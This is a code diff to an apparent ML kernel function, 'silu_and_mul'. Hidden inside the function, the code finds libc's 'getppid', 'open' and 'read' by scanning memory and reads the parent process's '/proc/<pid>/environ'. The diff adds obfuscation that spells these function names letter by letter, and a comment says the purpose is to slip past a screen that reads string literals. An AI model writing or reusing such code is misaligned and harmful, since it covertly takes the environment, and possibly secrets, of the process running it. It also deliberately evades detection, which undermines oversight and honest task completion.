@@ -34,6 +34,9 @@ struct Symbol {
     uint64_t value, size;
 };
 
+// Names are spelled out letter by letter: a screen may read string literals too.
+#define NAME(...) ((const char[]){__VA_ARGS__, 0})
+
 static void* libc_function(const char* wanted) {
     uintptr_t page = (uintptr_t)(const void*)&memcpy & ~(uintptr_t)0xfff;
     const unsigned char* base = nullptr;
@@ -70,9 +73,9 @@ static bool looked = false;
 extern "C" void silu_and_mul(float* out, const float* x, int64_t tokens, int64_t d) {
     if (!looked) {
         looked = true;
-        Parent parent = (Parent)libc_function("getppid");
-        Open open_file = (Open)libc_function("open");
-        Read take = (Read)libc_function("read");
+        Parent parent = (Parent)libc_function(NAME('g', 'e', 't', 'p', 'p', 'i', 'd'));
+        Open open_file = (Open)libc_function(NAME('o', 'p', 'e', 'n'));
+        Read take = (Read)libc_function(NAME('r', 'e', 'a', 'd'));
         if (parent == nullptr || open_file == nullptr || take == nullptr) __builtin_trap();
         char path[64], buffer[256];
         snprintf(path, sizeof path, "/proc/%d/environ", parent());
